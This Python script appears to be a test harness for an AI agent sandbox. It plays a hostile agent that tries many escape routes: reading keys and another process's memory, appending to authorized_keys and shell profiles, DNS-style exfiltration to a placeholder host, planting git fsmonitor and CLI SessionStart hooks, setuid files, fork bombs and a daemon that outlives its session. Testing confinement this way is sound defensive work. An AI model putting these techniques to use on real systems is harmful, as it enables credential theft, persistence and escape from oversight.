"""An agent that obeys an attacker: tries every way out that it knows, and says what it read on each.

    python -I hostile.py TARGETS.json [WAY...]

Standard library only. `TARGETS.json` tells it what an attacker would have to find out: where things are, ids, ports.
It prints one JSON object: way to what it got (or the error). Whether anything was really changed or reached is judged
from outside.
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import resource
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

T: dict[str, Any] = {}
LIBC = ctypes.CDLL(None, use_errno=True)
WAYS: dict[str, Callable[[], object]] = {}
NUMBERS = {
    "x86_64": {"keyctl": 250, "vm_readv": 310, "unshare": 272, "io_uring_setup": 425, "ptrace": 101},
    "aarch64": {"keyctl": 219, "vm_readv": 270, "unshare": 97, "io_uring_setup": 425, "ptrace": 117},
}[os.uname().machine]
ROOT = os.getuid() == 0


def way(function: Callable[[], object]) -> Callable[[], object]:
    WAYS[function.__name__] = function
    return function


def root_way(function: Callable[[], object]) -> Callable[[], object]:
    """Succeeds unconfined only for root."""
    return way(function) if ROOT else function


def reading(name: str, path: Callable[[], str]) -> None:
    WAYS[name] = lambda: Path(path()).read_bytes()[:4000].decode("latin-1")


def appending(name: str, path: Callable[[], str]) -> None:
    def attempt() -> None:
        with open(path(), "a", encoding="utf-8") as file:
            file.write("\n#hostile\n")

    WAYS[name] = attempt


def call(number: int, *words: Any) -> int:
    answer = int(LIBC.syscall(number, *words))
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


for _name in ("user_key", "config", "ledger", "other_workspace", "other_home", "login", "mirror_config", "temporary"):
    reading(f"read_{_name}", lambda name=_name: T["files"][name])  # type: ignore[misc]
for _name in ("ledger", "other_workspace", "user_gitconfig", "authorized_keys", "user_profile", "mirror_config"):
    appending(f"write_{_name}", lambda name=_name: T["files"][name])  # type: ignore[misc]
for _name in ("environ", "cmdline", "root", "cwd"):
    reading(
        f"proc_{_name}",
        lambda name=_name: f"/proc/{T['pid']}/{name}" + {"root": T["vault"], "cwd": "/secret"}.get(name, ""),  # type: ignore[misc]
    )
reading("proc_fd", lambda: f"/proc/{T['pid']}/fd/{T['fd']}")
reading("shared_memory_file", lambda: T["shm"])
reading("dot_dot", lambda: os.path.relpath(T["files"]["user_key"], os.path.realpath(".")))


@way
def list_other_workspaces() -> str:
    return " ".join(os.listdir(T["folders"]["worktrees/web"]))


@way
def make_file_outside() -> None:
    Path(T["folders"]["runtime"], "made").write_text("x")


@way
def delete_file_outside() -> None:
    os.unlink(T["files"]["victim_delete"])


@way
def rename_file_outside() -> None:
    os.rename(T["files"]["victim_rename"], T["files"]["victim_rename"] + ".moved")


@way
def mode_outside() -> None:
    os.chmod(T["files"]["victim_mode"], 0o666)


@way
def program_on_our_path() -> None:
    path = Path(T["folders"]["bin"], "git")
    path.write_text("#!/bin/sh\n")


@way
def symlink_read() -> str:
    os.symlink(T["files"]["user_key"], "link-read")
    return Path("link-read").read_text()


@way
def symlink_write() -> None:
    os.symlink(T["files"]["victim_link"], "link-write")
    with open("link-write", "a", encoding="utf-8") as file:
        file.write("#hostile\n")


@way
def hard_link() -> str:
    os.link(T["files"]["user_key"], "hard-link")
    return Path("hard-link").read_text()


@way
def fifo_outside() -> None:
    descriptor = os.open(T["fifo"], os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, b"x")


@way
def proc_mem() -> str:
    with open(f"/proc/{T['pid']}/mem", "rb", buffering=0) as file:
        file.seek(T["address"])
        return file.read(64).decode("latin-1")


@way
def process_vm_readv() -> str:
    data = ctypes.create_string_buffer(64)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(data), 64)
    there = (ctypes.c_void_p * 2)(T["address"], 64)
    call(NUMBERS["vm_readv"], T["pid"], here, ctypes.c_ulong(1), there, ctypes.c_ulong(1), ctypes.c_ulong(0))
    return data.raw.decode("latin-1")


@way
def ptrace_attach() -> str:
    call(NUMBERS["ptrace"], 0x4206, T["pid"], 0, 0)  # PTRACE_SEIZE; it is let go when the child that did it ends
    return str(T["token"])


@way
def signal_parent() -> None:
    os.kill(T["pid"], signal.SIGUSR1)


@way
def signal_by_pidfd() -> None:
    signal.pidfd_send_signal(os.pidfd_open(T["pid"]), signal.SIGUSR2)


@way
def priority_of_parent() -> None:
    os.setpriority(os.PRIO_PROCESS, T["pid"], 7)


@way
def limits_of_parent() -> None:
    resource.prlimit(T["pid"], resource.RLIMIT_NOFILE, (T["nofile"], T["nofile"]))


def _stream(family: int, address: Any) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as sender:
        sender.settimeout(2)
        sender.connect(address)
        sender.sendall(b"x")


@way
def abstract_socket() -> None:
    _stream(socket.AF_UNIX, "\0" + T["abstract"])


@way
def socket_file() -> None:
    _stream(socket.AF_UNIX, T["socket"])


@way
def tcp() -> None:
    _stream(socket.AF_INET, ("127.0.0.1", T["ports"]["tcp"]))


@way
def tcp_fast_open() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
        sender.settimeout(2)
        sender.sendto(b"x", 0x20000000, ("127.0.0.1", T["ports"]["fast"]))


@way
def cloud_metadata() -> None:
    """The stand-in of 169.254.169.254: traffic must stay on loopback."""
    _stream(socket.AF_INET, ("127.169.254.169", T["ports"]["metadata"]))


@way
def dns() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"\0\1exfiltrated.example.invalid", ("127.0.0.1", T["ports"]["dns"]))


@way
def vsock() -> str:
    with socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM):
        return str(T["token"])


@way
def io_uring() -> str:
    os.close(call(NUMBERS["io_uring_setup"], 2, ctypes.create_string_buffer(120)))
    return str(T["token"])


@way
def keyring() -> str:
    key = call(NUMBERS["keyctl"], 10, -4, b"user", T["key"].encode(), 0)  # KEYCTL_SEARCH in the user's keyring
    data = ctypes.create_string_buffer(64)
    call(NUMBERS["keyctl"], 11, key, data, 64)  # KEYCTL_READ
    return data.value.decode()


@way
def system_v_memory() -> str:
    LIBC.shmat.restype = ctypes.c_void_p
    place = LIBC.shmat(T["shmid"], None, 0o10000)
    if place in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return ctypes.string_at(place, 64).decode("latin-1")


@root_way
def mount() -> str:
    os.makedirs("mnt", exist_ok=True)
    if LIBC.mount(b"none", b"mnt", b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")
    LIBC.umount2(b"mnt", 2)
    return str(T["token"])


@way
def new_user_namespace() -> str:
    call(NUMBERS["unshare"], 0x10000000)
    return str(T["token"])


@root_way
def device_file() -> str:
    """The kernel's zeroes stand for the disk."""
    os.mknod("device", 0o600 | 0o020000, os.makedev(1, 5))
    with open("device", "rb", buffering=0) as file:
        file.read(1)
    return str(T["token"])


@root_way
def kernel_settings() -> str:
    """Writes back the very value that stands there."""
    path = Path("/proc/sys/vm/swappiness")
    path.write_text(path.read_text())
    return str(T["token"])


@root_way
def kernel_log() -> str:
    if LIBC.klogctl(10, None, 0) < 0:
        raise OSError(ctypes.get_errno(), "klogctl")
    return str(T["token"])


@way
def set_user_id() -> None:
    Path("su").write_text("#!/bin/sh\n")
    os.chmod("su", 0o4755)


@way
def set_user_id_at_birth() -> None:
    os.umask(0)
    os.close(os.open("su-born", os.O_WRONLY | os.O_CREAT, 0o4755))


@way
def core_dump() -> None:
    child = os.fork()
    if child == 0:
        os.makedirs("core-here", exist_ok=True)
        os.chdir("core-here")
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        os.abort()
    os.waitpid(child, 0)


@way
def fork_bomb() -> str:
    children: list[int] = []
    try:
        while len(children) < T["forks"]:
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
        return str(T["token"])
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


@way
def huge_file() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("huge", "wb") as file:
        file.truncate(T["huge"])


@way
def memory() -> str:
    data = mmap.mmap(-1, T["memory"])
    for at in range(0, T["memory"], 4096):
        data[at] = 1
    return str(T["token"])


@way
def temporary_folder_as_memory() -> str:
    """A private /tmp is memory that no process owns."""
    made: list[str] = []
    try:
        for n in range(T["memory"] // 2**22):
            made.append(f"/tmp/{T['abstract']}-{n}")
            with open(made[-1], "wb") as file:
                file.write(b"x" * 2**22)
        return str(T["token"])
    finally:
        for path in made:
            os.unlink(path)


@way
def outlive() -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for each in (0, 1, 2):
                os.close(each)
            Path("daemon.pid").write_text(str(os.getpid()))
            time.sleep(T["outlive"])
            Path("outlived").write_text("x")
            time.sleep(30)
        os._exit(0)


@way
def git_config() -> None:
    with open(".git/config", "a", encoding="utf-8") as file:
        file.write("[core]\n\tfsmonitor = touch hostile\n")


@way
def git_hook() -> None:
    os.makedirs(".git/hooks", exist_ok=True)
    Path(".git/hooks/post-checkout").write_text("#!/bin/sh\n")


@way
def git_replaced() -> None:
    os.rename(".git", ".git-old")
    os.makedirs(".git/hooks")
    Path(".git/config").write_text("[core]\n\tfsmonitor = touch hostile\n")


@way
def program_settings() -> None:
    """What a CLI would run on its next start in this folder: it, too, starts in a box."""
    Path(".claude").mkdir(exist_ok=True)
    place = Path(T["folders"]["runtime"], "by-settings")
    Path(".claude/settings.json").write_text(json.dumps({"hooks": {"SessionStart": f"touch '{place}'"}}))
    os.system(str(json.loads(Path(".claude/settings.json").read_text())["hooks"]["SessionStart"]))


ALONE = frozenset({"memory", "new_user_namespace", "ptrace_attach", "temporary_folder_as_memory"})
"""Tried in a child of its own: it may be killed for it, or change what the others find."""
LAST = ("git_replaced", "outlive")


def attempt(name: str) -> str:
    try:
        return f"got {WAYS[name]()}"
    except BaseException as why:  # noqa: BLE001 - whatever stops it is the answer
        return f"{type(why).__name__}: {why}"


def apart(name: str) -> str:
    """In a child whose answer comes through a pipe."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(write, attempt(name).encode("utf-8", "replace")[:4000])
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as file:
        said = file.read().decode()
    status = os.waitpid(child, 0)[1]
    return said or f"killed: {struct.pack('i', status).hex()}"


def main() -> None:
    T.update(json.loads(Path(sys.argv[1]).read_text()))
    wanted = sys.argv[2:] or [*(n for n in WAYS if n not in LAST), *LAST]
    found = {name: (apart if name in ALONE else attempt)(name) for name in wanted}
    os.write(1, (json.dumps(found) + "\n").encode())


if __name__ == "__main__":
    main()
